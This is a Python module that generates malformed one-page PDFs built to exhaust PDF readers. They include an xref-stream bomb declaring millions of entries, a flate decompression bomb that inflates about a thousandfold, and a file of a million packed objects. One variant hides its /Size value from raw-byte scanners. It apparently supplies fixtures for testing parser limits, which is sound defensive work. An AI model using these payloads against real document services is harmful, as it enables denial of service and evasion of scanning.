"""Small PDFs that are expensive to open: each a one-page document built around a
cross-reference stream, the hostile part being something every reader must decode."""
import struct
import zlib


def page_objects(first):
    """Catalog, page tree and one page, numbered from `first`."""
    return [b"<< /Type /Catalog /Pages %d 0 R >>" % (first + 1),
            b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (first + 2),
            b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 200 200] >>" % (first + 1)]


def _stream(head, *parts, level=1):
    deflate = zlib.compressobj(level)
    packed = b"".join(map(deflate.compress, parts)) + deflate.flush()
    return (b"<< " + head + b" /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
            + packed + b"\nendstream")


def _object_stream(bodies):
    """The offsets and data of an object stream; equal bodies share one copy."""
    at, data = {}, bytearray()
    for body in bodies:
        if body not in at:
            at[body] = len(data)
            data += body + b"\n"
    return [at[body] for body in bodies], bytes(data)


def pdf(raw, packed=(), padding=0, declared=None, root=1, level=1):
    """raw: the bodies of objects 1..len(raw), written as they are; packed: the bodies of the
    objects after them, kept in one object stream (the object just before them) followed by
    `padding` spaces; the xref stream comes last and declares /Size `declared` (default: the
    true count; the extra entries are free ones, zero bytes that compress to nothing)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    rows = [struct.pack(">BII", 0, 0, 65535)]  # /W [1 4 4]
    bodies = list(raw)
    if packed:
        stream_number = len(raw) + 1
        offsets, data = _object_stream(packed)
        header = b" ".join(b"%d %d" % (stream_number + 1 + i, offset)
                           for i, offset in enumerate(offsets)) + b"\n"
        bodies.append(_stream(b"/Type /ObjStm /N %d /First %d" % (len(packed), len(header)),
                              header + data, *[b" " * (1 << 20)] * (padding >> 20), level=level))
    for number, body in enumerate(bodies, 1):
        rows.append(struct.pack(">BII", 1, len(out), 0))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows += [struct.pack(">BII", 2, len(bodies), i) for i in range(len(packed))]
    xref_at = len(out)
    rows.append(struct.pack(">BII", 1, xref_at, 0))
    size = declared or len(rows)
    data = b"".join(rows) + b"\0" * 9 * (size - len(rows))
    head = b"/Type /XRef /Size %d /W [1 4 4] /Root %d 0 R" % (size, root)
    out += b"%d 0 obj\n%s\nendobj\n" % (len(rows) - 1, _stream(head, data, level=level))
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % xref_at


def xref_stream_bomb(entries=5_000_000):
    """One page; the xref stream declares `entries` entries (a few KB in the file)."""
    return pdf(page_objects(1), declared=entries, level=9)


def hidden_xref_stream_bomb(entries=5_000_000):
    """The same, its /Size written after a comment: still a number to a parser, but not to a
    scan of the raw bytes."""
    return xref_stream_bomb(entries).replace(b"/Size %d" % entries, b"/Size%%\n%d" % entries)


def flate_bomb(inflated=256 << 20):
    """The page's objects in an object stream padded with `inflated` spaces (whole MiB): a
    quarter of a megabyte in the file, a thousand times more once inflated, and a reader must
    inflate it to find the page."""
    return pdf([], page_objects(2), padding=inflated, root=2, level=9)


def many_objects(count=1_000_000):
    """One page and `count` tiny objects (null), packed in an object stream."""
    return pdf(page_objects(1), [b"null"] * count)
